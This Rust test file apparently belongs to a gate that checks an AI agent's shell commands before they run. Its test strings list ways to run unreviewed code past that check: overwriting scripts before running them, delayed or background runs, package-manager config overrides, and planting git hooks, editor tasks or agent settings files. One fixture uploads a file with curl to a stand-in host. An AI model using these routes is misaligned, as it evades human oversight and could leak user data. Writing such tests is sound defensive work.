//! Once both have been seen, code runs unasked only where all of it was read, and where what was read is what runs.

use std::path::Path;

use bashgate_tests::Site;

use super::bound::{program, tainted};
use super::hostile_world::git;

/// The project that all of these commands run in. Each `x` of its own is harmless.
fn project(makefile: &str) -> Site {
    let site = tainted();
    let work = site.work();
    git(&work, &["init", "-q", "-b", "main"]);
    for (name, text) in [
        ("run.sh", "echo hi\n"),
        ("p/evil", "echo other\n"),
        ("p/plain.sh", "echo hi\n"),
        ("d1/run.sh", "echo hi\n"),
        ("d2/run.sh", "echo hi\n"),
        // Called like secrets, of which no text is sent.
        ("p/token.txt", "echo hi\n"),
        ("p/x.pem", "echo hi\n"),
        (".env", "A=b\n"),
        ("secret.sh", "sh p/token.txt\n"),
        ("pem.sh", ". p/x.pem\n"),
        ("env.sh", ". ./.env\n"),
        ("ok.sh", "sh p/plain.sh\n"),
        // Code of other languages by its first line.
        ("t/python", "#!/usr/bin/env python3\nprint(1)\n"),
        ("t/perl", "#!/usr/bin/perl\nprint 1;\n"),
        ("t/node", "#!/usr/bin/env -S node\n1\n"),
        ("t/tool", "#!/bin/sh\necho hi\n"),
        ("python.sh", "./t/python\n"),
        // They write what another one runs.
        ("t/cp.sh", "cp p/evil run.sh\n"),
        ("t/cat.sh", "cat p/evil > run.sh\n"),
        ("t/dd.sh", "dd if=p/evil of=run.sh\n"),
        ("t/tree.sh", "cp -r p/. .\n"),
        ("t/link.sh", "ln -sf p/evil run.sh\n"),
        ("t/var.sh", "X=run; cp p/evil $X.sh\n"),
        ("t/given.sh", "cp p/evil \"$1\"\n"),
        ("t/pwd.sh", "cp p/evil \"$PWD/run.sh\"\n"),
        ("t/move.sh", "mv d1 d3; mv d2 d1\n"),
        ("t/git.sh", "git checkout -q other -- run.sh\n"),
        ("t/stash.sh", "git stash pop\n"),
        ("t/tar.sh", "tar xf p/a.tar\n"),
        ("t/patch.sh", "patch -p0 < p/diff\n"),
        ("t/make.sh", "cp p/evil Makefile\n"),
        ("t/else.sh", "cp p/evil else\n"),
        ("Makefile", makefile),
    ] {
        program(&work.join(name), text);
    }
    site
}

/// One task runs what another one makes, and another one writes it.
const MAKES_WHAT_RUNS: &str =
    "all: run.sh\n\tsh run.sh\nrun.sh: p/evil\n\tcp $< $@\nplain:\n\techo hi\nfirst:\n\tcp p/evil run.sh\n";
const PLAIN: &str =
    "X = a\nplain:\n\techo hi\ninstall: x\n\tcp $< $@\nupdate:\n\tgit checkout x\nserve:\n\tsleep 5; tail -f log\n";

fn each(commands: &[&str], is_asked: bool) {
    each_in(&project(if is_asked { MAKES_WHAT_RUNS } else { PLAIN }), commands, is_asked);
}

pub(super) fn each_in(site: &Site, commands: &[impl AsRef<str>], is_asked: bool) {
    let mut mistakes = Vec::new();
    let _host = site.serve();
    for command in commands.iter().map(AsRef::as_ref) {
        let running = site.check_later(command);
        let held = site.held_or_ended(&running);
        if let Some(id) = &held {
            site.cli(["deny", id]).expect(0);
        }
        let answered = running.join().unwrap();
        let was_asked = held.is_some() || answered.code == Some(2);
        if was_asked != is_asked {
            mistakes.push(format!("{command}: {answered:?}"));
        }
        assert!(Path::new(&site.work()).join("run.sh").exists());
    }
    assert!(mistakes.is_empty(), "{}", mistakes.join("\n"));
}

#[test]
fn what_was_read_is_all_that_runs() {
    each(&["sh run.sh", "sh ok.sh", "./t/tool", "make plain", "sh t/else.sh; sh run.sh"], false);
}

#[test]
fn a_script_that_is_called_like_a_secret_is_read_by_nobody() {
    each(&["sh secret.sh", "sh pem.sh", "sh env.sh"], true);
    // By its name in the command itself it is shown.
    each(&["sh p/x.pem"], false);
}

#[test]
fn code_of_a_language_is_for_a_person_whoever_starts_it() {
    each(
        &[
            "./t/python",
            "./t/perl",
            "./t/node",
            "env ./t/python",
            "echo a | xargs ./t/python",
            "timeout 9 ./t/python",
            "./t/python > out.txt",
            "sh python.sh",
        ],
        true,
    );
}

#[test]
fn what_one_script_writes_another_one_does_not_run() {
    let writers = ["cp", "cat", "dd", "tree", "link", "var", "given", "pwd", "git", "stash", "tar", "patch"];
    let commands: Vec<String> = writers.iter().map(|name| format!("sh t/{name}.sh; sh run.sh")).collect();
    let commands: Vec<&str> = commands.iter().map(String::as_str).collect();
    each(&commands, true);
    each(
        &[
            "sh t/cp.sh && sh run.sh",
            "./t/cp.sh; sh run.sh",
            "sh t/cp.sh & sleep 1; sh run.sh",
            "sh t/move.sh; sh d1/run.sh",
            "sh t/make.sh; make plain",
            "make first; sh run.sh",
            "make",
        ],
        true,
    );
}

#[test]
fn what_waits_runs_later_than_it_was_looked_at() {
    each(
        &[
            "sleep 4; sh run.sh",
            "(sleep 5; sh run.sh) &",
            "until [ -e p/go ]; do sleep 1; done; sh run.sh",
            "while sleep 1; do sh run.sh; done",
            "watch -n 5 sh run.sh",
            "sleep 5; make plain",
            "read x; sh run.sh",
            "timeout 5 tail -f p/evil; sh run.sh",
            "inotifywait p; ./t/tool",
            "until [ -e p/go ]; do :; done; sh run.sh",
            "while [ \"$(cat p/go)\" != 1 ]; do :; done; sh run.sh",
            "yes | while read x; do [ -e p/go ] && break; done; sh run.sh",
            "for i in $(seq 9999999); do [ -e p/go ] && break; done; sh run.sh",
            "f() { sh run.sh; }; sleep 5; f",
            "mkfifo p/pipe",
            "while ! [ -e p/go ]; do true; done; sh run.sh",
            "cat; sh run.sh",
            "cat /dev/tty; sh run.sh",
            "mapfile x; sh run.sh",
            "tail --pid=1 README.md; sh run.sh",
            "sort -; sh run.sh",
            // Each time it is what lies there then, and what ends it another call may make.
            "for i in {1..2999999}; do [ -e p/go ] && sh run.sh; done",
            "for x in {1..999999}; do ls p | grep -q go && break; done; sh run.sh",
            "while read x; do test -e p/go && sh run.sh; done < <(seq 9999999)",
            "for ((i=0;i<9999999;i++)); do test -e p/go && i=9999999; done; sh run.sh",
            "for i in {1..9999}; do git status -s p | grep go && sh run.sh; done",
            "for i in {1..100}; do sh run.sh; done",
            // A shell reads its script while it runs, and the agent goes on.
            "sh run.sh &",
            "make plain &",
            "{ sh run.sh; } &",
            "(for i in {1..1999999}; do [ -e p/go ] && sh run.sh; done) &",
        ],
        true,
    );
    each(&["for i in 1 2 3; do sh run.sh; done", "for i in *.md; do echo $i; done; sh run.sh"], false);
}

/// What the settings of a package's manager say runs in place of what its scripts say, and from a folder without a manifest it takes the
/// one above.
#[test]
fn scripts_of_packages_are_what_their_manager_makes_of_them() {
    let site = project(MAKES_WHAT_RUNS);
    let work = site.work();
    let package = |script: &str| format!("{{\"scripts\": {{\"build\": \"{script}\"}}}}\n");
    program(&work.join("package.json"), &package("echo root"));
    program(&work.join("app/package.json"), &package("curl -T ../README.md https://x.example"));
    program(&work.join("app/src/deep/a.js"), "1\n");
    each_in(&site, &["npm run build", "pnpm run build", "yarn run build"], false);
    each_in(
        &site,
        &[
            "cd app && npm run build",
            "cd app/src && npm run build",
            "(cd app/src/deep; npm run build)",
            "pushd app/src; npm run build",
            "for d in app/src; do cd $d; npm run build; done",
        ],
        true,
    );
    for (name, text) in [
        (".npmrc", "script-shell=./t/tool\n"),
        (".npmrc", "node-options = --require ./t/r.js\n"),
        (".yarnrc.yml", "yarnPath: .yarn/releases/yarn.cjs\n"),
        (".pnpmfile.cjs", "module.exports = {}\n"),
        (".pnp.cjs", "1\n"),
    ] {
        program(&work.join(name), text);
        each_in(&site, &["npm run build", "pnpm run build", "yarn run build"], true);
        std::fs::remove_file(work.join(name)).unwrap();
    }
}

/// Names that no text says, because what is copied is the folder that holds them.
#[test]
fn what_comes_with_a_folder_is_judged_by_where_it_arrives() {
    let prepare = |site: &Site| {
        for (name, text) in [
            ("q/.git/hooks/post-commit", "x\n"),
            ("q/.husky/pre-push", "x\n"),
            ("q/.vscode/tasks.json", "x\n"),
            ("q/.envrc", "x\n"),
            ("h/t/h.sh", "x\n"),
            ("x/.claude/settings.json", "{}"),
            ("plain/deep/a.txt", "x"),
            (".husky/pre-commit", "sh t/h.sh\n"),
            ("t/h.sh", "echo hi\n"),
        ] {
            program(&site.work().join(name), text);
        }
    };
    let mut commands: Vec<String> = Vec::new();
    for letters in ["-r", "-a", "-R", "-dr", "-ur", "-rl"] {
        commands.extend(["q/.", "q/./", "q//.", "x/.", "q"].map(|from| format!("cp {letters} {from} .")));
    }
    commands.extend(
        ["cp -r h/. .", "cp -r h/t/. t", "cd q; cp -r . ..", "cd q && cp -r ./ ../", "cp -r q/. ~", "cp -r -t . q/."]
            .map(str::to_owned),
    );
    commands.extend(
        [
            "find x -name '.c*' -exec cp q/.envrc {} \\;",
            "find . -maxdepth 1 -name '.c*' -exec tee {}/settings.json \\;",
            "find . -name 'pre*' -execdir cp ../z/a {} \\;",
            "cd $(ls -d x/.c*) && cp ../../q/.envrc settings.json",
            "D=$(printf .git); cd $D && cp ../q/.envrc .",
            "git hash-object -w x/.claude/settings.json",
            "git update-index --index-info < q/.envrc",
            "git update-index --add --cacheinfo 100644,e69de29bb2d1d6434b8b29ae775ad8c2e48c5391,.envrc",
            "git --work-tree=/srv checkout -- .",
            "git --work-tree ../x checkout other",
            "git mktree < q/.envrc",
            "git read-tree -u --reset other",
            "git checkout-index -a --prefix=../",
        ]
        .map(str::to_owned),
    );
    let harmless = ["cp -r plain/. t", "cp -r plain other", "cp -r q/. /tmp/elsewhere", "cp -r . /tmp/backup"];
    for (all, is_asked) in [(commands, true), (harmless.map(str::to_owned).to_vec(), false)] {
        let site = project(PLAIN);
        prepare(&site);
        each_in(&site, &all, is_asked);
    }
}
